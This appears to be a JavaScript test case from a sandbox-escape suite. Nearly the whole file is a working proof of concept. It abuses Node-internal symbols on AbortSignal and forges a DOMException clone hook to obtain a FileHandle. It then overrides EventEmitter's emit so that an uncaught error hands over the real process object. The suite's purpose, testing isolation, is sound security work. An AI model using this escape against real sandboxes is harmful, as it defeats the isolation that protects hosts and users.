/**
 * Has an abort signal make a pair of message ports, and these a file handle of Node's. What that inherits from is an emitter,
 * as the process is: a changed `emit` is called on the process when an error is caught by nobody.
 *
 * @verdict graded 0
 * @without realm lockdown scope
 * @then prints got the process
 */
const { signal } = new AbortController()
const symbol = (value, pattern) => {
  for (let owner = value; owner; owner = Object.getPrototypeOf(owner)) {
    const found = Object.getOwnPropertySymbols(owner).find((each) => pattern.test(String(each)))
    if (found) return found
  }
}

async function findProcess() {
  signal[symbol(signal, /transfer_list/)]()
  const { port1, port2 } = signal[symbol(signal, /kCloneData/)]
  const exception = Object.defineProperty(new DOMException(''), symbol(DOMException.prototype, /messaging_clone/), {
    value: () => ({ data: { handle: { fd: 1 } }, deserializeInfo: 'internal/fs/promises:FileHandle' }),
  })
  const handle = await new Promise((resolve) => {
    port2.addEventListener('message', ({ data }) => resolve(data))
    port1.postMessage(exception)
  })
  const emitter = Object.getPrototypeOf(Object.getPrototypeOf(handle))
  const { emit } = emitter
  emitter.emit = function (...args) {
    if (!this.getBuiltinModule) return emit.apply(this, args)
    emitter.emit = emit
    console.log('got the process')
    return true
  }
  setTimeout(() => {
    throw new Error('for the process')
  })
  await new Promise((resolve) => setTimeout(resolve, 100))
}

await findProcess().catch((error) => console.log(String(error)))

export class Vault {
  put() {}
  get() {}
  names() {}
  keep() {}
  onGone() {}
  load() {}
}
